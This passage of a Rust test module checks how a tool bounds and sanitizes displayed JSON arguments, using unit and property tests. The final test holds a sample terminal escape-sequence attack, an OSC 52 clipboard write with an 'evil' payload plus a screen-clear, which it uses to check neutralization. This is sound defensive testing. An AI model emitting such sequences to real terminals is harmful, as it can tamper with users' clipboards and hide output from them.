            "{shown}"
        );
        assert!(shown.lines().count() < 16, "{shown}");
        assert_eq!(
            arguments_line(&serde_json::json!("plain"), 200, "W"),
            "\"plain\""
        );
    }

    /// Issue 36, item 14: 80,000 arguments printed 80,009 lines, and a 3.5 MB `pending` line.
    #[test]
    fn many_arguments_are_bounded_in_lines_and_bytes_and_counted() {
        let args: serde_json::Map<String, serde_json::Value> = (0..80_000)
            .map(|n| (format!("k{n}"), serde_json::json!(n)))
            .collect();
        let args = serde_json::Value::Object(args);
        let shown = arguments(&args, 60, 4000, "v shows every argument whole");
        assert!(shown.lines().count() <= 61, "{}", shown.lines().count());
        assert!(
            shown.ends_with(" of the 80000 arguments left out; v shows every argument whole)"),
            "{shown}"
        );
        let line = arguments_line(&args, 200, "`pending --json` shows them whole");
        assert!(line.len() < 1_000, "{line}");
        assert!(
            line.ends_with(" of the 80000 arguments left out; `pending --json` shows them whole)"),
            "{line}"
        );
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(64))]

        /// Issue 36, item 14: whatever the arguments, the views stay within their bounds (see
        /// [`arguments`] and [`arguments_line`]), and the whole view cuts nothing.
        #[test]
        fn the_views_stay_within_their_bounds(
            args in arbitrary_args(),
            max_lines in 0usize..80,
            max_chars in 0usize..5_000,
        ) {
            let whole = "W";
            let lines_bound = max_lines.max(MIN_VALUE_LINES) + 1;
            let chars_bound = max_chars.max(MAX_KEY_CHARS + 2 + MIN_VALUE_CHARS);
            let shown = arguments(&args, max_lines, max_chars, whole);
            proptest::prop_assert!(shown.lines().count() <= lines_bound, "{} lines: {shown}", shown.lines().count());
            // Each character as itself (at most 4 bytes) or its escape (at most 10); per line an
            // indent, a `: ` and a line feed, and at most two marks (a name's, a value's) of at
            // most 64 bytes each; the summary.
            let bytes_bound = 10 * chars_bound + (5 + 2 * 64) * lines_bound + 200;
            proptest::prop_assert!(shown.len() <= bytes_bound, "{} bytes > {bytes_bound}", shown.len());
            let line = arguments_line(&args, max_chars, whole);
            let chars_bound = max_chars.max(MAX_KEY_CHARS + 2 + MIN_LINE_VALUE_CHARS);
            proptest::prop_assert!(!line.contains('\n'));
            // As above, with `: ` and `, ` per argument (each costs at least the 2 characters of
            // its quoted name), and a mark per name or value cut (each cut one costs at least
            // 40 characters).
            let line_bound = 10 * chars_bound + 4 * (chars_bound / 2) + 64 * (chars_bound / 20) + 200;
            proptest::prop_assert!(line.len() <= line_bound, "{} bytes > {line_bound}", line.len());
            let all = arguments_whole(&args);
            proptest::prop_assert!(!all.contains("not shown"));
        }
    }

    /// Arguments of any shape: many keys, long and multi-line values, hidden characters.
    fn arbitrary_args() -> impl proptest::strategy::Strategy<Value = serde_json::Value> {
        use proptest::prelude::*;
        let text = prop_oneof![
            "[a-z]{0,8}",
            ".{0,300}",
            "(\n|x|\u{1b}|\u{202e}|é){0,3000}",
            proptest::string::string_regex("[ -~]{0,50}").expect("regex"),
        ];
        let value = prop_oneof![
            text.clone().prop_map(serde_json::Value::String),
            any::<i64>().prop_map(serde_json::Value::from),
            proptest::collection::vec(any::<u16>(), 0..400).prop_map(serde_json::Value::from),
        ];
        prop_oneof![
            proptest::collection::btree_map(text, value.clone(), 0..40)
                .prop_map(|m| serde_json::Value::Object(m.into_iter().collect())),
            (1usize..3_000).prop_map(|n| serde_json::Value::Object(
                (0..n)
                    .map(|i| (format!("k{i}"), serde_json::json!(i)))
                    .collect()
            )),
            value,
        ]
    }

    #[test]
    fn nothing_left_can_start_an_escape_sequence() {
        let text = "\u{1b}[31mred\u{1b}]52;c;ZXZpbA==\u{7}\u{9b}2J\u{1b}P\u{1b}\\";
        let shown = neutralize(text);
        assert!(!shown.chars().any(hides), "{shown}");
        assert!(shown.contains("\\u{1b}]52;c;ZXZpbA==\\u{7}"), "{shown}");
    }
}
